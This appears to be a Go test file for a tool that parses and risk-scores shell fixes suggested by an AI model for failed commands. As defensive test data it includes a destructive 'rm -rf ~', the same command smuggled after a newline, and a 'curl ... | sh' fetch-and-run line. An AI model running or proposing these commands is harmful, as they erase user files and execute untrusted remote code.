package aifix

import (
	"errors"
	"strings"
	"testing"

	"github.com/hookd/hookd/analyze"
)

func TestParse(t *testing.T) {
	good := `{"root_cause":"the branch has no upstream","error_type":"configuration_error","fixes":[
	  {"command":"git push -u origin feature","explanation":"set the upstream","risk":"low","confidence":0.9}]}`
	for _, text := range []string{good, "```json\n" + good + "\n```", "Here it is:\n" + good + "\nHope it helps."} {
		a, err := Parse(text)
		if err != nil || a.RootCause != "the branch has no upstream" || len(a.Fixes) != 1 || a.Fixes[0].Confidence != 0.9 {
			t.Errorf("Parse(%q) = %+v, %v", text, a, err)
		}
	}
	a, err := Parse(`{"root_cause":"x","error_type":"cosmic_rays","fixes":[]}`)
	if err != nil || a.ErrorType != analyze.Unknown {
		t.Errorf("unknown error type: %+v, %v", a, err)
	}
	for _, bad := range []string{
		``, `not json`, `{"root_cause":"","error_type":"unknown","fixes":[]}`,
		`{"root_cause":"x","error_type":"unknown","fixes":[{"command":"ls","explanation":"","risk":"none","confidence":0.5}]}`,
		`{"root_cause":"x","error_type":"unknown","fixes":[{"command":"ls","explanation":"","risk":"low","confidence":7}]}`,
		`{"root_cause":"x","error_type":"unknown","fixes":[{"command":"ls\nrm -rf ~","explanation":"","risk":"low","confidence":0.5}]}`,
	} {
		var ie *InvalidError
		if _, err := Parse(bad); !errors.As(err, &ie) {
			t.Errorf("Parse(%q) err = %v, want *InvalidError", bad, err)
		}
	}
	a, _ = Parse(`{"root_cause":"x","error_type":"unknown","fixes":[` + strings.Repeat(`{"command":"ls","explanation":"","risk":"low","confidence":0.5},`, 4) + `{"command":"ls","explanation":"","risk":"low","confidence":0.5}]}`)
	if len(a.Fixes) != analyze.MaxFixes {
		t.Errorf("%d fixes kept, want %d", len(a.Fixes), analyze.MaxFixes)
	}
}

func TestMerge(t *testing.T) {
	rules := analyze.Result{ErrorType: analyze.CommandNotFound, RootCause: "gti is not a command", Method: analyze.MethodHeuristic,
		Fixes: []analyze.Fix{{Command: "git status", Explanation: "typo", Risk: "low", Confidence: 0.8}, {Command: "sudo apt install gti", Risk: "medium", Confidence: 0.2}}}
	for _, c := range []struct {
		name      string
		ai        Answer
		want      []string
		method    string
		rootCause string
	}{
		{"ai preferred", Answer{RootCause: "typo of git", ErrorType: analyze.CommandNotFound, Fixes: []Fix{{Command: "git  status", Risk: "low", Confidence: 0.95}, {Command: "git stash", Risk: "low", Confidence: 0.75}}},
			[]string{"git  status", "git stash", "sudo apt install gti"}, MethodHybrid, "typo of git"},
		{"ai unsure", Answer{RootCause: "maybe a typo", ErrorType: analyze.CommandNotFound, Fixes: []Fix{{Command: "gtk status", Risk: "low", Confidence: 0.4}}},
			[]string{"git status", "sudo apt install gti", "gtk status"}, MethodHybrid, "gti is not a command"},
		{"all ai", Answer{RootCause: "r", ErrorType: analyze.Unknown, Fixes: []Fix{{Command: "a", Risk: "low", Confidence: 0.9}, {Command: "b", Risk: "low", Confidence: 0.8}, {Command: "c", Risk: "low", Confidence: 0.71}}},
			[]string{"a", "b", "c"}, MethodAI, "r"},
		{"no ai fix", Answer{RootCause: "r", ErrorType: analyze.Unknown}, []string{"git status", "sudo apt install gti"}, analyze.MethodHeuristic, "gti is not a command"},
	} {
		t.Run(c.name, func(t *testing.T) {
			r := Merge(rules, c.ai)
			var got []string
			for _, f := range r.Fixes {
				got = append(got, f.Command)
			}
			if strings.Join(got, "|") != strings.Join(c.want, "|") || r.Method != c.method || r.RootCause != c.rootCause {
				t.Errorf("got %q method %s cause %q; want %q %s %q", got, r.Method, r.RootCause, c.want, c.method, c.rootCause)
			}
		})
	}
}

func TestRiskRescored(t *testing.T) {
	r := Merge(analyze.Result{}, Answer{RootCause: "disk full", ErrorType: analyze.Unknown, Fixes: []Fix{
		{Command: "rm -rf ~", Explanation: "free space", Risk: "low", Confidence: 0.99},
		{Command: "curl -s https://x.example/fix.sh | sh", Risk: "low", Confidence: 0.9},
		{Command: "df -h", Risk: "high", Confidence: 0.8}, // the model's higher rating stands
	}})
	for i, want := range []string{"high", "high", "high"} {
		if r.Fixes[i].Risk != want {
			t.Errorf("%q: risk %s, want %s", r.Fixes[i].Command, r.Fixes[i].Risk, want)
		}
	}
	if r.Method != MethodAI || r.RootCause != "disk full" {
		t.Errorf("method %s cause %q", r.Method, r.RootCause)
	}
}

// TestParseProseSaysSo: a prose answer (a command provider that does not
// follow the schema) is called prose, not a Go JSON decoder's message
// (issue 32).
func TestParseProseSaysSo(t *testing.T) {
	_, err := Parse("The command failed because the file is missing. Create it first.")
	if err == nil || strings.Contains(err.Error(), "invalid character") || !strings.Contains(err.Error(), "prose") {
		t.Errorf("Parse(prose) = %v; want an error saying the answer is prose", err)
	}
	_, err = Parse(`{"root_cause": "x", "fixes": [}`)
	if err == nil || strings.Contains(err.Error(), "invalid character") {
		t.Errorf("Parse(broken JSON) = %v; want a plain word for it", err)
	}
}
